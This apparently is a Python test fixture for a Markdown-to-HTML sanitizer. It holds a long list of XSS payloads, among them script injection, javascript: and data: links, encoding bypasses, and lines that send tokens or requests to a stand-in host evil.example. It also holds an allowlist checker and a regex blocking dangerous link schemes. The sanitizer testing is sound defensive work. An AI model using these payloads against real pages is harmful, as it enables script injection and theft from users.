"""Texts that would do harm, and what a page may hold that was made of any text."""

import re
from html.parser import HTMLParser

from conderis.web.markdown.colouring import CLASSES

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="background:url(//evil.example)">x</p>',
    "<iframe src='javascript:alert(1)'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&Tab;script:alert&lpar;1&rpar;)",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/settings/keys/)",
    "[x](\\\\evil.example)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'title'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    '![x](https://evil.example/p.png "onerror=alert(1)")',
    '[x](https://ok.example "\\" onmouseover=alert(1) ")',
    '[x](https://ok.example/"onmouseover=alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    '```html" onmouseover=alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "# main\n\n[x](#main)",
    "[[wiki|javascript:alert(1)]]",
    "\0<script>alert(1)</script>",
    "\ud83d<script>alert(1)</script>",
    "[x](\u00a0javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\\nscript:alert(1)>)",
    "[x](java%0ascript:alert(1))",
    "[x](http:javascript:alert(1))",
    "[x](view-source:https://evil.example)",
    "[x](VBSCRIPT:msgbox(1))",
    "[x](data&colon;text/html,x)",
    "[x](DATA:image/svg+xml,<svg onload=alert(1)>)",
    "[x][]\n\n[x]: JaVaScRiPt:alert(1)",
    "[x]\n\n[x]:  java&#x09;script:alert(1)",
    "[x]\n\n[x]: data:text/html,x",
    "[x]\n\n[X]: <vbscript:msgbox(1)>",
    "![x]\n\n[x]: javascript:alert(1)",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<java&#x09;script:alert(1)>",
    "javascript:alert(1)",
    "[[javascript:alert(1)]]",
    "[[x|data:text/html,x]]",
    "![[javascript:alert(1)]]",
    '[x](#"onclick=alert(1))',
    "![x](#reason)",
    "![x](mailto:me@x.example)",
    '- [x] <input type="text" onfocus=alert(1) autofocus>',
    "- [ ] [x](javascript:alert(1))",
    "```<script>alert(1)</script>\nx\n```",
    '``` html\n<a href="javascript:alert(1)" onclick=alert(1)>x</a>\n```',
    "```html\n<script>alert(1)</script>\n```",
    '<span class="ref">#1</span>',
    '<span class="ref">javascript:alert(1)#1</span>',
    'javascript:a/b#1"onclick=alert(1)',
]

TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "figcaption", "figure", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "input", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}  # fmt: skip
VALUES = {
    "aria-label": r"Done|Not done",
    "checked": r"",
    "class": rf"r|prose-scroll|meta|kept source|code|contains-task-list|task-list-item|"
    rf"{'|'.join(sorted(CLASSES))}",
    "dir": r"auto|ltr",
    "disabled": r"",
    "href": r"https?:[^\s\"<>]*|mailto:[^\s\"<>]*|#h-[^\s\"<>]*|/[a-z0-9/]+/items/\d+/",
    "id": r"h-[\w-]+",
    "rel": r"nofollow noopener noreferrer ugc",
    "start": r"\d+",
    "tabindex": r"0",
    "type": r"checkbox",
}
# What one of these has, it always has.
ALWAYS = {"input": {"type", "disabled", "aria-label"}, "pre": {"tabindex"}}


class Seen(HTMLParser):
    """Every tag and attribute that a browser would find, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS
        assert attributes.keys() >= ALWAYS.get(tag, set()), (tag, attributes)
        for name, value in attributes.items():
            assert name in VALUES, (tag, name)
            assert re.fullmatch(VALUES[name], value or ""), (tag, name, value)


def links(html: str) -> list[str | None]:
    return [attributes.get("href") for tag, attributes in Seen(html).tags if tag == "a"]


# No link may begin so, whatever its letters' case.
LEADING_NOWHERE = r"(?:java|vb)script|data:|file:|blob:|//|\\"
